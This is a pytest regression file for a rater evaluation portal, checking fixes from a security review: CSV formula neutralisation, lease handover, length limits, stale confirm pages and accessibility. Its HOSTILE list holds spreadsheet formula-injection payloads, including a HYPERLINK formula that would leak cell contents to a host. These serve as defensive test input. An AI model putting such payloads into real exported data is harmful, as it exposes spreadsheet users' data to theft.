"""Regression tests for the review's correctness findings (../shared/reviews/portal-security.md): F2 formula
injection in CSV exports, F5 lease handover, F9 long reasons, F10 confirm page bound to its draft, F11 retired
items, F12 validation, F13 upload names, F14 parallel claims, F17 accessibility and error pages, F18 long text and
images. Each failed on main at 0f27c79."""

from __future__ import annotations

import io
import json
import re
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from fastapi.testclient import TestClient
from portal_helpers import (
    ADMIN,
    CRITERIA,
    claim,
    csrf_of,
    fill_steps,
    invite_tokens,
    pairwise_form,
    profiled_raters,
    questions_frame,
    seed_track,
    signed_in_rater,
    start_rater,
    submit_form,
)
from sqlalchemy import func, select
from typer.testing import CliRunner

from stableval.cli import app as cli
from stableval.errors import InputError
from stableval.portal.admin.export import export, to_bytes
from stableval.portal.admin.manage import create_track, import_questions, set_retired
from stableval.portal.store.db import Database
from stableval.portal.store.models import Assignment, Judgment, Question, Submission, utcnow
from stableval.portal.web.app import create_app
from stableval.portal.work.assignment import claim_next
from stableval.portal.work.flow import MAX_TEXT, empty_draft, save_draft, submit

runner = CliRunner()
HOSTILE = ['=HYPERLINK("http://127.0.0.1:1/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)", "\tTAB", "\rCR"]


def _count(db: Database, table: Any) -> int:
    with db.reading() as session:
        return int(session.scalar(select(func.count()).select_from(table)) or 0)


def test_f2_csv_export_neutralises_formulas_and_score_still_reads_it(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'portal.db'}"
    app = create_app(url, admin_token=ADMIN)
    frame = questions_frame(1)
    frame["id"], frame["model_a"], frame["model_b"] = HOSTILE[0], HOSTILE[1], HOSTILE[3]
    client, db = signed_in_rater((app, app.state.portal.db), tmp_path, frame)
    assignment, html = claim(client)
    confirm = fill_steps(client, assignment, html, "a", "5", "2", **{"why-accuracy": HOSTILE[2]})
    client.post(f"/a/{assignment}/submit", data=submit_form(confirm.text))

    pairwise = pd.read_csv(io.BytesIO(to_bytes(export(db, "pairwise").frame, "csv")), dtype=str,
                           keep_default_na=False)
    cells = pairwise[["item", "agent_a", "agent_b", "reason"]].to_numpy().ravel()
    assert all(not str(c).startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'" + HOSTILE[0] in set(pairwise["item"]) and "'" + HOSTILE[2] in set(pairwise["reason"])
    raw = [json.loads(line) for line in to_bytes(export(db, "pairwise").frame, "jsonl").decode().splitlines()]
    assert {r["item"] for r in raw} == {HOSTILE[0]}  # JSONL keeps the raw text

    out = tmp_path / "votes.csv"
    written = runner.invoke(cli, ["export", "main", "--criterion", "accuracy", "-o", str(out), "--database-url", url])
    assert written.exit_code == 0, written.output
    table = pd.read_csv(out, dtype=str)
    assert sorted(table["label"]) == ["2", "5"] and set(table["agent"]) == {"'" + HOSTILE[1], "'" + HOSTILE[3]}
    scored = runner.invoke(cli, ["score", str(out), "--levels", "1,2,3,4,5", "-B", "0", "-f", "json"])
    assert scored.exit_code == 0, scored.output
    assert {row["agent"] for row in json.loads(scored.stdout)["scores"]} == {"'" + HOSTILE[1], "'" + HOSTILE[3]}
    app.state.portal.db.dispose()


def _answer(db: Database, assignment_id: int) -> str:
    draft = empty_draft()
    draft["pairwise"] = dict.fromkeys(CRITERIA, "a")
    draft["ratings_a"], draft["ratings_b"] = dict.fromkeys(CRITERIA, "5"), dict.fromkeys(CRITERIA, "3")
    with db.writing() as session:
        save_draft(session, assignment_id, draft)
        token: str = session.get(Assignment, assignment_id).form_token
    return token


def test_f5_late_submit_after_handover_is_refused_and_the_holder_keeps_the_slot(db_url: str,
                                                                                tmp_path: Path) -> None:
    db = Database(db_url)
    db.upgrade()
    seed_track(db, tmp_path, frame=questions_frame(1), k=1, lease_hours=1)
    first, second = profiled_raters(db, 2)
    start = utcnow()
    held = claim_next(db, first, "main", now=start).assignment_id
    assert held is not None
    taken = claim_next(db, second, "main", now=start + timedelta(hours=2)).assignment_id  # lease expired
    assert taken is not None and taken != held
    late = submit(db, first, held, _answer(db, held), now=start + timedelta(hours=2, minutes=1))
    assert late.status == "expired"
    current = submit(db, second, taken, _answer(db, taken), now=start + timedelta(hours=2, minutes=2))
    assert current.status == "created"
    with db.reading() as session:
        assert session.scalars(select(Submission.rater_id)).all() == [second]
        assert session.get(Assignment, held).status == "released"
    db.dispose()


def test_f5_late_submit_with_the_slot_still_free_is_kept(db_url: str, tmp_path: Path) -> None:
    db = Database(db_url)
    db.upgrade()
    seed_track(db, tmp_path, frame=questions_frame(1), k=1, lease_hours=1)
    (first,) = profiled_raters(db, 1)
    start = utcnow()
    held = claim_next(db, first, "main", now=start).assignment_id
    assert held is not None
    assert submit(db, first, held, _answer(db, held), now=start + timedelta(hours=5)).status == "created"
    db.dispose()


def test_f9_long_reasons_are_refused_with_a_message_never_cut(portal: tuple[Any, Any], tmp_path: Path) -> None:
    client, db = signed_in_rater(portal, tmp_path)
    assignment, html = claim(client)
    too_long = "x" * (MAX_TEXT + 1)
    answer = client.post(f"/a/{assignment}/pairwise", data=pairwise_form(csrf_of(html), **{"why-accuracy": too_long}))
    assert answer.status_code == 422 and "5,001 characters" in answer.text and "at most 5,000" in answer.text
    flagged = client.post(f"/a/{assignment}/pairwise", data={"csrf": csrf_of(html), "action": "next", "flag": "on",
                                                             "flag_reason": too_long})
    assert flagged.status_code == 422 and "flag has 5,001 characters" in flagged.text
    confirm = fill_steps(client, assignment, html, **{"why-accuracy": "y" * MAX_TEXT})
    client.post(f"/a/{assignment}/submit", data=submit_form(confirm.text))
    with db.reading() as session:
        reason = session.scalar(select(Judgment.reason).where(Judgment.criterion == "accuracy"))
    assert reason == "y" * MAX_TEXT


def test_f10_submit_stores_only_what_the_confirm_page_showed(portal: tuple[Any, Any], tmp_path: Path) -> None:
    client, db = signed_in_rater(portal, tmp_path)
    assignment, html = claim(client)
    confirm = fill_steps(client, assignment, html, "a", "4", "3", **{"why-accuracy": "first tab"})
    second_tab = client.get(f"/a/{assignment}/pairwise")
    rev = re.search(r'name="rev" value="(\d+)"', second_tab.text)
    assert rev
    saved = client.post(f"/a/{assignment}/draft", data={"csrf": csrf_of(second_tab.text), "step": "pairwise",
                                                        "rev": rev.group(1), "why-accuracy": "second tab"})
    assert saved.status_code == 204
    stale = client.post(f"/a/{assignment}/submit", data={**submit_form(confirm.text),
                                                         "digest": re.search(r'name="digest" value="([^"]+)"',
                                                                             confirm.text).group(1)})
    assert "changed (in another tab or window)" in stale.text and "second tab" in stale.text
    assert _count(db, Submission) == 0
    done = client.post(f"/a/{assignment}/submit", data={**submit_form(stale.text), "digest": re.search(
        r'name="digest" value="([^"]+)"', stale.text).group(1)})
    assert "Your evaluation was saved" in done.text
    with db.reading() as session:
        assert session.scalar(select(Judgment.reason).where(Judgment.criterion == "accuracy")) == "second tab"


def test_f11_retired_items_refuse_pages_and_submissions(portal: tuple[Any, Any], tmp_path: Path) -> None:
    client, db = signed_in_rater(portal, tmp_path, questions_frame(2))
    assignment, html = claim(client)
    confirm = fill_steps(client, assignment, html)
    with db.reading() as session:
        question_id = session.get(Assignment, assignment).question_id
    set_retired(db, question_id, True)
    answer = client.post(f"/a/{assignment}/submit", data=submit_form(confirm.text))
    assert answer.status_code == 410 and "withdrew this question" in answer.text
    assert client.get(f"/a/{assignment}/pairwise").status_code == 410
    assert _count(db, Submission) == 0
    following, _ = claim(client)  # the released lease does not block the next question
    assert following and following != assignment


def test_f12_email_and_lease_validation(portal: tuple[Any, Any], tmp_path: Path) -> None:
    client, db = signed_in_rater(portal, tmp_path)
    page = client.get("/profile")
    for email in ("@", "a@", "@b.org", "a@b", "a b@c.org"):
        answer = client.post("/profile", data={"csrf": csrf_of(page.text), "name": "Dr X", "email": email,
                                               "specialty": "cardiology", "years": "3"})
        assert answer.status_code == 422 and "name@example.org" in answer.text, email
    for hours in (1e-9, 0.0, float("nan"), 1e9):
        with pytest.raises(InputError, match="lease"):
            create_track(db, "short", lease_hours=hours)


def test_f13_import_errors_name_the_uploaded_file(portal: tuple[Any, Any], tmp_path: Path) -> None:
    app, db = portal
    seed_track(db, tmp_path)
    admin = TestClient(app)
    page = admin.post("/admin/login", data={"csrf": csrf_of(admin.get("/admin/login").text), "token": ADMIN})
    for content in (b"", b"\xff\xfe\x00garbage\x00"):
        answer = admin.post("/admin/tracks/main/import", data={"csrf": csrf_of(page.text)},
                            files={"file": ("my-questions.csv", content, "text/csv")})
        assert answer.status_code == 422 and "my-questions.csv" in answer.text, answer.text
        assert "upload.csv" not in answer.text and "/tmp" not in answer.text


def test_f14_parallel_claims_of_one_rater_give_one_lease(db_url: str, tmp_path: Path) -> None:
    db = Database(db_url)
    db.upgrade()
    seed_track(db, tmp_path, frame=questions_frame(6), k=3)
    (rater,) = profiled_raters(db, 1)
    with ThreadPoolExecutor(max_workers=8) as pool:
        claims = list(pool.map(lambda _: claim_next(db, rater, "main").assignment_id, range(12)))
    assert None not in claims and len(set(claims)) == 1
    with db.reading() as session:
        assert session.scalar(select(func.count(Assignment.id)).where(Assignment.status == "open")) == 1
    db.dispose()


def test_f17_inline_errors_no_autofocus_html_error_pages(portal: tuple[Any, Any], tmp_path: Path) -> None:
    client, _ = signed_in_rater(portal, tmp_path, questions_frame(2))
    progress = client.get("/progress")
    assert "autofocus" not in progress.text
    assignment, html = claim(client)
    answer = client.post(f"/a/{assignment}/pairwise", data={"csrf": csrf_of(html), "action": "next"})
    assert answer.status_code == 422
    for key in CRITERIA:
        assert f'id="err-{key}"' in answer.text
        assert re.search(rf'role="radiogroup"[^>]*aria-invalid="true" aria-describedby="err-{key}"', answer.text)
    confirm = fill_steps(client, assignment, html)
    assert "autofocus" not in confirm.text
    profile = client.post("/profile", data={"csrf": csrf_of(confirm.text), "name": "", "email": "x",
                                            "specialty": "c", "years": "1"})
    assert 'aria-invalid="true" aria-describedby="err-email"' in profile.text and 'id="err-name"' in profile.text
    for url, code in (("/no/such/page", 404), ("/a/abc/pairwise", 422)):
        page = client.get(url)
        assert page.status_code == code and page.headers["content-type"].startswith("text/html"), url
        assert "<h1>Sorry</h1>" in page.text
    big = client.post(f"/a/{assignment}/pairwise", data={"csrf": csrf_of(html), "why-accuracy": "x" * 1_100_000})
    assert big.status_code == 413 and big.headers["content-type"].startswith("text/html")


def _luminance(hex_colour: str) -> float:
    channels = [int(hex_colour[i:i + 2], 16) / 255 for i in (1, 3, 5)]
    linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
    return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]


def test_f17_focus_outline_contrast_is_at_least_3_to_1() -> None:
    css = (Path(__file__).resolve().parents[2] / "src/stableval/portal/static/portal.css").read_text()
    found = re.search(r":focus-visible\{outline:\d+px solid (#[0-9a-fA-F]{6})", css)
    assert found
    ratio = (1.0 + 0.05) / (_luminance(found.group(1)) + 0.05)  # against the white page
    assert ratio >= 3.0, ratio
    assert abs((1.05 / (_luminance("#f5a623") + 0.05)) - 2.0) < 0.1  # the old colour: about 2.0:1 (WCAG formula)


def test_f18_long_text_is_refused_and_images_leave_a_placeholder(portal: tuple[Any, Any], tmp_path: Path) -> None:
    _, db = portal
    create_track(db, "main")
    frame = questions_frame(2)
    frame.loc[1, "answer_b"] = "y" * 100_001
    path = tmp_path / "long.csv"
    frame.to_csv(path, index=False)
    with pytest.raises(InputError, match=r"long.csv, row 2, column 'answer_b'.*at most 100,000 characters"):
        import_questions(db, "main", path)
    assert _count(db, Question) == 0
    frame = questions_frame(1)
    frame["answer_a"] = "See ![chest X-ray](http://example.org/x.png) here."
    frame.to_csv(path, index=False)
    import_questions(db, "main", path)
    (token,) = invite_tokens(db, 1)
    app, _ = portal
    client = TestClient(app)
    start_rater(client, token)
    _, html = claim(client)
    assert "[image: chest X-ray]" in html and "example.org/x.png" not in html
